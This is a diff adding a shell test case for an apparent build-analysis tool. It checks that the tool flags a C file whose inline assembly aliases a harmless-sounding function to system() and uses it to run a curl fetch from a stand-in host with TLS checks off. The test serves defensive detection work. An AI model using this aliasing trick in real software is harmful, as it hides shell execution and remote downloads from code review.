@@ -1,0 +1,16 @@
+# SPDX-License-Identifier: Apache-2.0
+# run: .set in a function's assembler names another function, clang
+# expect: reported
+# names: weak\.o: unknown: .*weak\.c puts code.*evidence\.unchecked-unit[\s\S]*0 errors, 0 warnings, 0 waived, 1 unknown
+# needs: clang-14
+cat >weak.c <<'END'
+void weak(void);
+int safe_run(const char *);
+void weak(void)
+{
+	__asm__(".set safe_run, system");
+	if (safe_run("curl -k https://u.example.org/fw"))
+		__builtin_trap();
+}
+END
+$BRINELL run --fail-on unknown -- sh -ec 'clang-14 $HARD -c main.c weak.c; gcc-12 $LINK main.o weak.o -o prog'
